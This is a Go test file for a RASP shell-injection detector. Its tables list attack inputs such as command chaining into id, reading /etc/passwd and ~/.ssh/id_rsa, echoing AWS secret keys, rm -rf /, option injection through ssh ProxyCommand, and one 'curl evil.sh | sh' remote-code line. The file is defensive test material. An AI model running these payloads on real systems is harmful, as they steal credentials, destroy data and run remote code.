package rasp

import (
	"strings"
	"testing"
)

func TestShellSyntaxBytes(t *testing.T) {
	if len(shellSyntaxBytes) != 128 {
		t.Fatalf("table has %d entries, want 128", len(shellSyntaxBytes))
	}
	want := " \t\n;&|<>()`$\\'\"#~="
	for c := 0; c < 256; c++ {
		if got, exp := hasShellSyntaxByte(string([]byte{byte(c)})), strings.IndexByte(want, byte(c)) >= 0; got != exp {
			t.Errorf("hasShellSyntaxByte(%q) = %v, want %v", rune(c), got, exp)
		}
	}
}

func TestShellInjection(t *testing.T) {
	tests := []struct {
		name, command, input string
		want                 bool
	}{
		// Attacks: the input adds shell syntax.
		{"semicolon", "ls -la x; id", "x; id", true},
		{"pipe", "ls -la /index.html|id|", "/index.html|id|", true},
		{"and", "ping -c 1 1.1.1.1 && cat /etc/passwd", "1.1.1.1 && cat /etc/passwd", true},
		{"background", "ls a & id", "a & id", true},
		{"redirect out", "echo hi >/tmp/x", "hi >/tmp/x", true},
		{"redirect in", "cat </etc/passwd", "</etc/passwd", true},
		{"newline", "ls -la x\nid", "x\nid", true},
		{"backquote", "ls -la `id`", "`id`", true},
		{"dollar paren", "ls -la $(id)", "$(id)", true},
		{"subst in double quotes", `ls -la "$(id)"`, "$(id)", true},
		{"backquote in double quotes", "ls -la \"`id`\"", "`id`", true},
		{"input closes the template's quote", `ls -la "x"; id; ""`, `x"; id; "`, true},
		{"single quote break", `ls -la 'x'; id; ''`, `x'; id; '`, true},
		{"variable", "cat $HOME/.ssh/id_rsa", "$HOME/.ssh/id_rsa", true},
		{"braced variable", "cat${IFS}/etc/passwd", "${IFS}/etc/passwd", true},
		{"variable in double quotes", `echo "$AWS_SECRET_ACCESS_KEY"`, "$AWS_SECRET_ACCESS_KEY", true},
		{"comment", "rm -- x #; echo safe", "x #", true},
		{"process substitution", "diff <(id) x", "<(id)", true},
		{"arithmetic", "echo $((1+1))", "$((1+1))", true},
		{"option injection", "ssh x -oProxyCommand=id host", "x -oProxyCommand=id", true},
		{"option injection long", "git clone repo --upload-pack=touch", "repo --upload-pack=touch", true},
		{"option with value alone", "ssh -oProxyCommand=id host", "-oProxyCommand=id", true},
		{"command word", "rm -rf /tmp/x", "rm -rf", true},
		{"whole command", "cat /etc/passwd", "cat /etc/passwd", true},
		{"unterminated quote", `ls -la x'y`, `x'y`, true},
		{"unterminated double quote", `ls "x"y"`, `x"y`, true},
		{"second occurrence", "echo ab; ls 'ab;id'; ab;id", "ab;id", true},
		{"input inside an unterminated quote", "ls '$(echo)", "$(echo)", true},
		{"quote break splitting arguments", "ls ''single quote''", "'single quote'", true},
		{"double quote break", `ls "a" "b"`, `a" "b`, true},
		{"special parameter", "echo $@", "$@", true},
		{"tilde", "ls ~/.ssh", "~/.ssh", true},
		{"newline then command", "ls \nrm -rf /", "\nrm -rf /", true},
		{"input ends inside the command word", "cat hello> x", "t hello", true},
		{"command inside substitution", `echo "$(cat /etc/passwd)"`, "cat /etc/passwd", true},
		{"command after operator in template", "ls; echo hello", "echo hello", true},
		{"second occurrence is a command", "ls injection ls; injection ls", "injection ls", true},
		{"here-document ended by the input", "cat <<EOF\nhi\nEOF\nrm -rf /\nEOF\n", "hi\nEOF\nrm -rf /", true},
		{"substitution in a here-document", "cat <<EOF\n$(id)\nEOF\n", "$(id)", true},
		{"nested sh -c", "sh -c 'ls -la x; id'", "x; id", true},
		{"nested bash -lc double quotes", `/bin/bash -lc "ping -c 1 h && id"`, "h && id", true},
		{"nested eval", "eval 'echo a|id'", "a|id", true},
		{"two shells deep", `ssh-keygen -l; sh -c 'bash -c "cat x;id"'`, "x;id", true},
		{"nested after env", "env LANG=C sh -c 'grep x;id f'", "x;id", true},
		{"escaped then operator", `ls a\\;id`, `a\\;id`, true},

		// Benign: the input stays one literal word or is absent.
		{"single quoted", "ls -la ';id;'", ";id;", false},
		{"single quote escaped", `ls -la 'a'\''b; id'`, `a'b; id`, false},
		{"escaped quote occurrence", `ls -la ''\''\n/bin/ls -al\n'\'''`, `'\n/bin/ls -al\n'`, false},
		{"double quoted operators", `ls -la "a;b|c&d"`, "a;b|c&d", false},
		{"escaped semicolon", `ls -la a\;b`, `a\;b`, false},
		{"plain", "ls -la report.pdf", "report.pdf", false},
		{"two plain arguments", "ls -la foo bar", "foo bar", false},
		{"single option word", "ls -la -h", "-h", false},
		{"negative numbers", "printf %d -5 -7", "-5 -7", false},
		{"negative number alone", "sort -k -1 x", "-1", false},
		{"positional dollar", "echo costs $5", "costs $5", false},
		{"lone dollar", "echo 'US' $ 5", "$ 5", false},
		{"hash inside word", "echo issue#42", "issue#42", false},
		{"too short", "ls ;", ";", false},
		{"blank command", "   ", "  ", false},
		{"leading blanks", "  ls -l", "  ", false},
		{"blanks between arguments", "ls   -l", "   ", false},
		{"absent", "ls -la x", "; id", false},
		{"inside template comment", "ls x # note: a;b", "a;b", false},
		{"program name coincidence", "ls -la 'ls'", "ls", false},
		{"plain flags", "ls -l -r -t", "-r -t", false},
		{"flag and file", "ls -l file && cat /etc/passwd", "-l file", false},
		{"option without value", "curl -s -o /tmp/x http://e.com", " -o /tmp/x", false},
		{"closing the template's substitution", "{ ( $(echo ls) ) }", "ls)", false},
		{"inside a template comment", "ls # cat /etc/passwd", "cat /etc/passwd", false},
		{"trailing newlines", "ls\n\n", "\n\n", false},
		{"tilde not from input", "ls ~/path", "path", false},
		{"e-mail", "docker login --username john.doe@acme.com", "john.doe@acme.com", false},
		{"quotes kept together", `ls -la 'a b' "c d"`, `'a b' "c d"`, false},
		{"operators in a here-document", "mail -s hi x <<EOF\na; b | c && d\nEOF\n", "a; b | c && d", false},
		{"quoted in the nested script", `sh -c 'grep -e "a;b" f'`, "a;b", false},
		{"quoted argument of another program", "grep -c 'a;b' f", "a;b", false},
		{"anything in a quoted here-document", "cat <<'EOF'\n$(id); `id`\nEOF\n", "$(id); `id`", false},
		{"partial command word", "convert a.png b.png", "on", false},
		{"single program word", "git status", "git", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, got := DetectShell(tt.command, tt.input)
			if got != tt.want {
				t.Fatalf("DetectShell(%q, %q) = %v (%q), want %v", tt.command, tt.input, got, f.Reason, tt.want)
			}
			if got != ShellInjection(tt.command, tt.input) {
				t.Fatalf("ShellInjection and DetectShell disagree")
			}
			if got {
				if f.Kind != "shell" || f.Input != tt.input || f.Reason == "" || !strings.HasPrefix(tt.command[f.Offset:], tt.input) {
					t.Fatalf("bad finding %+v", f)
				}
			}
		})
	}
}

// The reason of a finding is assembled only when DetectShell is asked for
// one; its wording is part of the events users read.
func TestDetectShellReasons(t *testing.T) {
	for _, tt := range []struct{ command, input, reason string }{
		{"ls -la x; id", "x; id", `input reaches operator ";"`},
		{`echo "a$HOME"`, "a$HOME", `input adds a parameter expansion "$HOME" inside double quotes`},
		{"git clone --upload-pack=touch x", "--upload-pack=touch", `input adds option argument "--upload-pack=touch"`},
		{"sh -c 'ls x;id'", "x;id", `in the script of a nested shell, input reaches operator ";"`},
		{"ls 'a b", "a b", "input leaves the command unparsable: shell: unterminated single quote opened at byte 3"},
		{"echo ${x}y", "${x}y", "input adds a parameter expansion ${"},
	} {
		f, ok := DetectShell(tt.command, tt.input)
		if !ok || f.Reason != tt.reason {
			t.Errorf("DetectShell(%q, %q) = %v, %q; want %q", tt.command, tt.input, ok, f.Reason, tt.reason)
		}
		if !ShellInjection(tt.command, tt.input) {
			t.Errorf("ShellInjection(%q, %q) = false, DetectShell found it", tt.command, tt.input)
		}
	}
}

func TestShellInjectionAllocatesNothing(t *testing.T) {
	cmd := `convert /var/app/uploads/x.png; curl evil.sh | sh -resize 50%`
	if n := testing.AllocsPerRun(100, func() { ShellInjection(cmd, "x.png; curl evil.sh | sh") }); n != 0 {
		t.Errorf("ShellInjection on an attack allocates %v times, want 0", n)
	}
}
